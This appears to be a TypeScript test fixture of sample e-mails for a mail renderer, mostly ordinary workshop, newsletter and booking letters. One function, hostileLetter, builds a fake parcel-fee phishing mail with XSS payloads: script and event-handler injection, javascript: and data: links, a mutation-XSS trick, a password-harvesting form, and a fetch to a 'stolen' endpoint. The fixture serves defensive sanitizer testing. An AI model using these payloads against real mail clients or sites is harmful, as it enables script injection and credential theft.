import type { EmailPlan } from '../plan.ts'

/** E-mails as mail programs really write them: tables, inline styles, pictures from elsewhere, quoted history. */
export function invoiceLetter(): EmailPlan {
  return {
    subject: 'Question about invoice 2214',
    from: 'henrik.solberg@example.org',
    to: 'workshop@example.com',
    html: `<div style="font-family: Georgia, serif; font-size: 15px; color: #223">
<p>Good afternoon,</p>
<p>thank you for the quick service last week. One thing on <b>invoice 2214</b> puzzles me:</p>
<table border="1" cellpadding="6" style="border-collapse: collapse; border-color: #ccd">
<tr style="background:#eef"><th align="left">Position</th><th align="right">Hours</th><th align="right">Price</th></tr>
<tr><td>True rear wheel</td><td align="right">0.5</td><td align="right">24.00</td></tr>
<tr><td>Bleed hydraulic brakes</td><td align="right">1.0</td><td align="right">48.00</td></tr>
<tr><td>Bleed hydraulic brakes</td><td align="right">1.0</td><td align="right">48.00</td></tr>
</table>
<p>Are the brakes on there <i>twice</i>, or is that front and rear? Either is fine, I would just like to understand it before I pass it on to my employer.</p>
<p>Kind regards<br>Henrik Solberg</p>
<p><img src="{origin}/mail-assets/signature.png" alt="Solberg Land Survey" width="220"><br>
<span style="font-size:11px;color:#888">Please think of the trees before printing.</span>
<img src="{origin}/mail-assets/pixel.png?campaign=reply" width="1" height="1" alt=""></p></div>`,
    quotedHtml: `<blockquote style="border-left:2px solid #bbc;margin-left:0;padding-left:12px;color:#667">
<p>On Tuesday the workshop wrote:</p><p>Dear Henrik, your bicycle is ready. The invoice is attached. See you soon!</p></blockquote>`,
    plain:
      'Good afternoon,\n\nthank you for the quick service last week. One thing on invoice 2214 puzzles me: are the brakes on there twice, or is that front and rear?\n\nKind regards\nHenrik Solberg',
  }
}

export function newsletterLetter(): EmailPlan {
  return {
    subject: 'Spring tyres are in: 15 % for workshops',
    from: 'offers@example.net',
    to: 'workshop@example.com',
    html: `<table width="100%" bgcolor="#f3efe6"><tr><td align="center">
<table width="560" bgcolor="#ffffff" cellpadding="24" style="font-family:Arial,sans-serif">
<tr><td><img src="{origin}/mail-assets/banner.png" width="512" alt="Spring tyres"></td></tr>
<tr><td><h1 style="margin:0;color:#2b6d4f">Rubber weather is over</h1>
<p>All gravel and city tyres, 15 % off for workshops until the end of the month.</p>
<p><a href="https://offers.example.net/tyres?ref=workshop" style="background:#2b6d4f;color:#fff;padding:10px 18px;border-radius:6px;text-decoration:none">See the list</a></p></td></tr>
<tr><td style="font-size:11px;color:#999">You receive this because you bought from us. <a href="https://offers.example.net/unsubscribe">Unsubscribe</a></td></tr>
</table></td></tr></table>`,
    plain:
      'Rubber weather is over. All gravel and city tyres, 15 % off for workshops until the end of the month.',
  }
}

/** Everything a mail should not be able to do. None of it may run, load or cover the window. */
export function hostileLetter(): EmailPlan {
  return {
    subject: 'Your parcel could not be delivered!!',
    from: 'parcel-desk@example.net',
    to: 'workshop@example.com',
    html: `<html><head><base href="https://parcel.example.net/">
<meta http-equiv="refresh" content="1;url=https://parcel.example.net/fetch">
<style>@import url("{origin}/mail-assets/evil.css"); body, #root, * { background: url("{origin}/mail-assets/background.png") !important; position: fixed !important; top: 0 }</style>
<script>document.body.dataset.pwned = 'script'; fetch('{origin}/mail-assets/stolen?by=script')</script></head>
<body onload="document.body.dataset.pwned = 'onload'">
<img src="{origin}/mail-assets/missing.png" onerror="document.body.dataset.pwned = 'onerror'">
<svg onload="document.body.dataset.pwned = 'svg'"><animate onbegin="document.body.dataset.pwned = 'animate'" attributeName="x"/></svg>
<iframe src="{origin}/mail-assets/frame.html" srcdoc="<script>parent.document.body.dataset.pwned = 'frame'</script>"></iframe>
<form action="{origin}/mail-assets/stolen"><input name="password" type="password" autofocus><button>Confirm your address</button></form>
<div style="position:fixed;inset:0;z-index:99999;background:#fff url('{origin}/mail-assets/cover.png')">YOUR SESSION HAS EXPIRED</div>
<a href="javascript:document.body.dataset.pwned = 'link'">Release the parcel now</a>
<a href="data:text/html,<script>alert(1)</script>">Track it</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.body.dataset.pwned='mutation'&gt;">
<p>Dear costumer, a parcel of <b>yours</b> is waiting. A small fee of 1.99 is due.</p>
<video src="{origin}/mail-assets/clip.mp4" autoplay></video><object data="{origin}/mail-assets/thing.swf"></object>
</body></html>`,
    plain: 'Dear costumer, a parcel of yours is waiting. A small fee of 1.99 is due.',
  }
}

export function fleetLetter(): EmailPlan {
  return {
    subject: 'Twelve bicycles for our library',
    from: 'margit.halloran@example.org',
    to: 'workshop@example.com',
    cc: 'purchasing@example.org',
    html: `<div dir="ltr"><p>Dear team,</p><p>our library would like to lend bicycles from May on. The attached list says what we have in mind:</p>
<ul><li>8 city bicycles, low step, 3 speeds</li><li>2 cargo bicycles with rain cover</li><li>2 tricycles</li></ul>
<p>Could you make us an offer <u>including</u> a yearly service? The council meets on the 14th, so anything before that would be wonderful.</p>
<p>Warmly,<br>Margit Halloran<br><span style="color:#777">Riverside Library, third floor, mind the step</span></p></div>`,
    plain:
      'Dear team,\n\nour library would like to lend bicycles from May on. Could you make us an offer including a yearly service?\n\nWarmly,\nMargit Halloran',
  }
}

export function anniversaryLetter(): EmailPlan {
  return {
    subject: 'Re: Our silver wedding in June',
    from: 'o.castellane@example.com',
    to: 'stay@example.org',
    html: `<div style="font-family:Calibri,sans-serif"><p>Dear Nadia,</p>
<p>what a lovely answer, thank you! We would take <b>rooms 3, 4 and 9</b> for the two nights and the terrace for the dinner.</p>
<p>Three small things:</p><ol><li>My mother cannot climb stairs. Is room 3 on the ground floor?</li>
<li>Two of us eat no fish, one eats nothing <i>but</i> fish.</li><li>May we bring our own accordion player?</li></ol>
<p>Yours, Odile Castellane</p><p><img src="{origin}/mail-assets/garden.png" width="320" alt="Our garden last June"></p></div>`,
    quotedHtml: `<div style="color:#777;border-top:1px solid #ccc"><p><b>From:</b> The Pelican Rooms<br><b>Subject:</b> Our silver wedding in June</p>
<p>Dear Odile, congratulations! The terrace is free on both evenings, and I have put a pencil mark on three rooms for you.</p></div>`,
    plain:
      'Dear Nadia,\n\nwhat a lovely answer, thank you! We would take rooms 3, 4 and 9 for the two nights and the terrace for the dinner.\n\nYours, Odile Castellane',
  }
}

export function agencyLetter(): EmailPlan {
  return {
    subject: 'Group of 22, walking holiday, September',
    from: 'groups@example.net',
    to: 'stay@example.org',
    html: `<div style="font-family:Verdana,sans-serif;font-size:13px"><p>Hello,</p><p>we plan a walking week along the coast and look for <b>11 twin rooms</b>:</p>
<table cellpadding="4"><tr><td>Arrival</td><td><b>Saturday, mid September</b></td></tr><tr><td>Nights</td><td>2</td></tr><tr><td>Board</td><td>half</td></tr></table>
<p>Do you offer a rate for groups, and where could a coach of 12 metres park?</p><p>Best wishes<br>Slow Boots Walking Tours</p></div>`,
    plain:
      'Hello,\n\nwe plan a walking week along the coast and look for 11 twin rooms. Do you offer a rate for groups?\n\nBest wishes\nSlow Boots Walking Tours',
  }
}

export function quoteLetter(): EmailPlan {
  return {
    subject: 'Quote for eight cargo bicycles',
    from: 'osman@bakery.example.org',
    to: 'workshop@example.com',
    cc: 'orders@bakery.example.org',
    html: `<p>Good morning,</p>
<p>could you quote <b>eight cargo bicycles</b> for our bakery? The boxes should take four trays each, and blue would be lovely.</p>
<p>Osman Yildirim<br>Market Square Bakery</p>`,
    plain:
      'Good morning,\n\ncould you quote eight cargo bicycles for our bakery? The boxes should take four trays each, and blue would be lovely.\n\nOsman Yildirim\nMarket Square Bakery',
  }
}
